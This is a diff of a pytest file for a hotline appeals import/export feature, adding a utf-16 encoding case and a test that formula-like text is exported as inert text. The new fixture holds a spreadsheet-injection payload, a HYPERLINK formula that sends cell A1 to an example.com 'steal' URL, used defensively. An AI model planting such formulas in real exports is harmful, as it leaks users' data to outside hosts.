@@ -112,7 +112,7 @@ def test_xlsx_work_orders_become_received_hotline_appeals_with_the_hotline_time_
     assert by_code.place == home and by_code.appeal_type == AppealType.CONSULT
 
 
-@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8", "utf-8-sig"])
+@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8", "utf-8-sig", "utf-16"])
 def test_csv_in_gbk_or_utf8_with_or_without_bom_imports(cast, encoding):
     report = run(cast.desk, csv_bytes([order(**{S.ADDRESS: "春晖雅苑5栋"})], encoding=encoding))
     assert report.created == 1, report.errors
@@ -291,6 +291,28 @@ def test_export_has_the_import_shape_and_reimports_as_unchanged(cast):
     csv_again = run(cast.desk, hotline.hotline_export_csv(user=cast.desk, start=TODAY, end=TODAY))
     assert (csv_again.created, csv_again.unchanged) == (0, 2)
     assert Appeal.objects.count() == 2
+
+
+FORMULA_TEXT = '=HYPERLINK("http://example.com/steal?"&A1,"点击查看")楼道灯坏了'
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_reimports_unchanged(cast):
+    run(cast.desk, csv_bytes([order(**{S.TEXT: FORMULA_TEXT})]))
+
+    data = hotline.hotline_export(user=cast.desk, start=TODAY, end=TODAY)
+    ws = openpyxl.load_workbook(io.BytesIO(data)).active
+    header = [c.value for c in ws[1]]
+    text = ws.cell(row=2, column=header.index(S.TEXT) + 1)
+    assert (text.value, text.data_type) == (FORMULA_TEXT, "s")  # text, not a formula Excel would run
+    assert run(cast.desk, data).unchanged == 1
+
+    csv_data = hotline.hotline_export_csv(user=cast.desk, start=TODAY, end=TODAY)
+    [row] = list(csv.DictReader(io.StringIO(csv_data.decode("utf-8-sig"))))
+    assert row[S.TEXT] == "'" + FORMULA_TEXT  # a leading apostrophe: Excel and WPS show it as text
+    assert row[S.PHONE] == "138****5678"
+    again = run(cast.desk, csv_data)
+    assert (again.created, again.unchanged, again.errors) == (0, 1, [])
+    assert Appeal.objects.get().text == FORMULA_TEXT
 
 
 def test_export_masks_names_and_phones_by_default(cast):
